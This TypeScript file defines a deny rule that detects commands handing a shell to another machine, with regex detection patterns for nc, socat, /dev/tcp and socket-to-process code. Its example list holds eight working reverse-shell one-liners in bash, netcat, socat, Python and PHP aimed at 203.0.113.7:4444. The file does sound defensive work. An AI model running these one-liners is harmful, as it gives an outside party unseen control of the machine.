/** Shells handed to another machine. */

import type { Invocation, Understanding } from "../../src/shell/model.ts";
import type { CommandRule, Match } from "../../src/types.ts";
import { parseArguments } from "../options.ts";
import { evidenceOf } from "../evidence.ts";
import { codeOf, interpreterPrograms, isShell } from "./interpreters.ts";

const carriers = new Set(["nc", "ncat", "netcat", "telnet", "socat", "openssl", "websocat"]);

/** A shell that takes its commands from standard input. */
function isOpenShell(invocation: Invocation): boolean {
  const program = invocation.program.toLowerCase();
  if (!isShell(program) && program !== "pwsh" && program !== "powershell" && program !== "cmd") return false;
  if (program === "cmd") return !invocation.args.some((word) => /^\/[ck]/i.test(word.text));
  return codeOf(invocation)?.stdin === true;
}

function isCarrier(invocation: Invocation): boolean {
  if (!carriers.has(invocation.program)) return false;
  return invocation.program !== "openssl" || /^s_(?:client|server)$/.test(invocation.args[0]?.text ?? "");
}

const socketPath = /^\/dev\/(?:tcp|udp)\//;

function opensSocket(invocation: Invocation): boolean {
  return invocation.redirections.some((one) => socketPath.test(one.target.text));
}

/** Redirected from or to a numbered descriptor, as `sh <&5 >&5`. */
function usesDescriptor(invocation: Invocation): boolean {
  return invocation.redirections.some((one) =>
    /^[<>]&$/.test(one.operator) && /^\d+$/.test(one.target.text) && Number(one.target.text) > 2
  );
}

/** Options and addresses by which a carrier starts a program for whoever is at the other end. */
function startsProgram(invocation: Invocation): boolean {
  const { program, args } = invocation;
  if (program === "nc" || program === "ncat" || program === "netcat") {
    const parsed = parseArguments(args, {
      values: ["-e", "-c", "-p", "-s", "-w", "-q", "-i", "-x", "-X", "--exec", "--sh-exec", "--lua-exec"],
    });
    return parsed.has("-e", "--exec", "--sh-exec", "--lua-exec") ||
      parsed.values("-c").some((word) => /[a-z]/i.test(word.text));
  }
  if (program === "socat") {
    const network = args.some((word) =>
      /^(?:tcp|udp|openssl|ssl|sctp|proxy|socks|vsock)[\w-]*:/i.test(word.text)
    );
    const shell = args.some((word) => /^(?:exec|system|shell):/i.test(word.text));
    return network && shell;
  }
  if (program === "websocat") return args.some((word) => /(?:^|:)(?:cmd|sh-c|exec):/.test(word.text));
  if (program === "telnetd" || program === "in.telnetd") {
    return args.some((word) => /sh$/.test(word.text)) || parseArguments(args).has("-l");
  }
  return program === "ttyd" || program === "gotty" || program === "wetty" || program === "shellinaboxd";
}

const starters: readonly (readonly [RegExp, RegExp])[] = [
  // A socket that becomes the input and output of a process.
  [
    /\bsocket\b|\bSocket\b/,
    /\bdup2\b|\bpty\.spawn\b|\bos\.exec|(?:Popen|run|call)\(\s*(?:\[\s*)?["'](?:\/\w+)*\/?(?:ba|z|da|k)?sh\b/,
  ],
  [
    /\bfsockopen\b|\bstream_socket_client\b|\bsocket_connect\b/,
    /\bexec\b|\bproc_open\b|\bshell_exec\b|\bpassthru\b|\bsystem\b|\bpopen\b/,
  ],
  [/\bTCPSocket\b|\bTCPServer\b|\bSocket\.tcp\b/, /\bexec\b|\bspawn\b|\bpopen\b|\bsystem\b|`/],
  [/\buse\s+Socket\b|\bIO::Socket\b/, /\bexec\b|\bsystem\b|\bfdopen\b|`/],
  [
    /\bnet\.(?:connect|createConnection|Socket|createServer)\b|\bnew\s+net\b|require\(["'](?:node:)?net["']\)/,
    /child_process|\bspawn\b|\bexec\b/,
  ],
  [/\bDeno\.(?:connect|listen)\b/, /\bDeno\.(?:Command|run)\b/],
  [/\bsocket\.(?:tcp|connect)\b|require\s*\(?["']socket["']/, /\bos\.execute\b|\bio\.popen\b/],
  [/\/inet\/(?:tcp|udp)\//, /\bsystem\b|\|&|getline/],
  [
    /Net\.Sockets\.TCP(?:Client|Listener)/i,
    /\biex\b|Invoke-Expression|\[ScriptBlock\]|Start-Process|\.Invoke\(/i,
  ],
  [/Net::HTTP|urllib|requests\.|\bfetch\(|https?\.get/, /\bpty\.spawn\b/],
];

/** A one-liner that connects a process to a socket. */
function connectsProcess(code: string): boolean {
  const text = code.slice(0, 65_536);
  return starters.some(([socket, process]) => socket.test(text) && process.test(text));
}

function codeTexts(invocation: Invocation): readonly string[] {
  const code = codeOf(invocation);
  const texts = (code?.inline ?? []).map((word) => word.text);
  if (code?.stdin === true && invocation.stdin !== undefined) texts.push(invocation.stdin.text);
  if (/^g?awk$|^mawk$/.test(invocation.program)) texts.push(...invocation.args.map((word) => word.text));
  return texts;
}

function found(understanding: Understanding): readonly Invocation[] {
  const all = understanding.invocations;
  const hits = new Set<Invocation>();
  const socketOpen = all.some(opensSocket);
  /** Position of the last carrier in each pipeline. */
  const carrierAt = new Map<number, number>();
  for (const { pipeline } of all.filter(isCarrier)) {
    carrierAt.set(pipeline.id, Math.max(carrierAt.get(pipeline.id) ?? -1, pipeline.index));
  }
  for (const invocation of all) {
    if (startsProgram(invocation)) hits.add(invocation);
    else if (isOpenShell(invocation)) {
      const interactive = invocation.args.some((word) => /^-[a-z]*i/.test(word.text));
      if (opensSocket(invocation) || (socketOpen && (interactive || usesDescriptor(invocation)))) {
        hits.add(invocation);
      }
      if ((carrierAt.get(invocation.pipeline.id) ?? -1) > invocation.pipeline.index) hits.add(invocation);
    } else if (!isShell(invocation.program) && codeTexts(invocation).some(connectsProcess)) {
      hits.add(invocation);
    }
  }
  return [...hits];
}

export const remoteShell: CommandRule = {
  id: "network/remote-shell",
  title: "Giving a shell to another machine",
  severity: "critical",
  decision: "deny",
  rationale: "Whoever is at the other end can run anything as this user, unseen and for as long as it lasts.",
  advice: "Look whether a port is open with `nc -zv host port`; let a person set up remote access with ssh.",
  examples: {
    match: [
      { action: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", decision: "deny" },
      { action: "nc -e /bin/sh 203.0.113.7 4444", decision: "deny" },
      { action: "ncat -l 4444 --sh-exec bash", decision: "deny" },
      { action: "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f", decision: "deny" },
      { action: "socat TCP:203.0.113.7:4444 EXEC:/bin/bash,pty,stderr", decision: "deny" },
      { action: "exec 5<>/dev/tcp/203.0.113.7/4444; sh <&5 >&5", decision: "deny" },
      {
        action:
          `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
        decision: "deny",
      },
      {
        action: `php -r '$s=fsockopen("203.0.113.7",4444);exec("sh <&3 >&3 2>&3");'`,
        decision: "deny",
      },
    ],
    pass: [
      { action: "nc -zv localhost 5432" },
      { action: "bash -c '</dev/tcp/localhost/5432'" },
      { action: "socat TCP-LISTEN:8080,fork TCP:localhost:3000" },
      { action: "python3 -c 'import socket; print(socket.gethostname())'" },
      { action: "python3 -m http.server 8000" },
      { action: "grep -rn 'nc -e /bin/sh' docs" },
      { action: "echo ping | nc localhost 6379" },
      { action: "bash deploy.sh | nc localhost 9000" },
    ],
  },
  on: "command",
  programs: [
    ...interpreterPrograms,
    ...carriers,
    "awk",
    "gawk",
    "mawk",
    "exec",
    "cmd",
    "telnetd",
    "in.telnetd",
    "ttyd",
    "gotty",
    "wetty",
    "shellinaboxd",
  ],
  match(understanding): readonly Match[] {
    return found(understanding).map((invocation) => ({
      message: `\`${invocation.program}\` would give a shell to another machine.`,
      evidence: evidenceOf(invocation),
    }));
  },
};
